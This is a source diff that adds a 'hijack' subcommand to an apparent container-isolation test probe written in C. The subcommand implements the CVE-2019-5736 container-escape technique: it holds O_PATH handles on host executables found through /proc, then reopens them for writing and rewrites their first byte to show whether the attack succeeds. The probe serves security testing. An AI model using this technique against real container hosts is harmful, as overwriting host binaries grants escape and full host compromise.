@@ -13,6 +13,13 @@
  *   probe fds [CMD ARG...]         list this process's fds ("fd N dir|other TARGET"),
  *                                  then exec CMD, if given
  *   probe rewrite PATH             read the first byte of PATH and write it back
+ *   probe hijack STOP READY        the CVE-2019-5736 attack: until the file STOP exists,
+ *                                  hold an O_PATH fd of every /proc/PID/exe that is
+ *                                  not a file of this container; then (when no
+ *                                  process executes them any more) reopen each for
+ *                                  writing and write its first byte back:
+ *       HELD PID LINK DEV:INO               an exe held
+ *       HIJACK LINK DEV:INO ERRNO|ok        the reopen for writing ("ok": the attack won)
  *   probe scan STOP READY [HOST]   until the file STOP exists, look at every other
  *                                  process: what its /proc/PID/exe, cwd, root and fds
  *                                  let us open; a directory reached that way is
@@ -285,6 +292,63 @@ static int cmd_scan(const char *stop, const char *ready, const char *host)
     return 0;
 }
 
+static int cmd_hijack(const char *stop, const char *ready)
+{
+    int held[64], nheld = 0, self = getpid();
+    char links[64][300];
+    int f = open(ready, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
+    if (f >= 0)
+        close(f);
+    while (access(stop, F_OK) < 0) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d)) && nheld < 64) {
+            int pid = atoi(e->d_name);
+            char path[64], link[256];
+            if (pid <= 0 || pid == self)
+                continue;
+            snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+            ssize_t n = readlink(path, link, sizeof(link) - 1);
+            if (n < 0)
+                continue;
+            link[n] = 0;
+            if (is_memfd(link))
+                continue;
+            int fd = open(path, O_PATH | O_CLOEXEC);
+            if (fd < 0)
+                continue;
+            char again[256];
+            n = readlink(path, again, sizeof(again) - 1);
+            if (n < 0 || (again[n] = 0, strcmp(again, link))) {
+                close(fd); /* it exec'd meanwhile: which file fd holds is unknown */
+                continue;
+            }
+            int dup_of = 0;
+            struct stat a, b;
+            fstat(fd, &a);
+            for (int i = 0; i < nheld && !dup_of; i++)
+                dup_of = fstat(held[i], &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino;
+            if (dup_of || reachable(fd, link)) {
+                close(fd);
+                continue;
+            }
+            printf("HELD %d %s %lu:%lu\n", pid, link, (unsigned long)a.st_dev,
+                   (unsigned long)a.st_ino);
+            snprintf(links[nheld], sizeof(links[nheld]), "%s %lu:%lu", link,
+                     (unsigned long)a.st_dev, (unsigned long)a.st_ino);
+            held[nheld++] = fd;
+        }
+        if (d)
+            closedir(d);
+    }
+    for (int i = 0; i < nheld; i++) {
+        char path[64];
+        snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
+        printf("HIJACK %s %s\n", links[i], rewrite_first_byte(path));
+    }
+    return 0;
+}
+
 static int cmd_fds(char **cmd)
 {
     DIR *d = opendir("/proc/self/fd");
@@ -319,6 +383,8 @@ int main(int argc, char **argv)
     const char *cmd = argv[1];
     if (!strcmp(cmd, "ids")) {
         printf("uid=%d euid=%d gid=%d egid=%d\n", getuid(), geteuid(), getgid(), getegid());
+    } else if (!strcmp(cmd, "hijack") && argc > 3) {
+        return cmd_hijack(argv[2], argv[3]);
     } else if (!strcmp(cmd, "sched")) {
         return cmd_sched();
     } else if (!strcmp(cmd, "mempolicy")) {
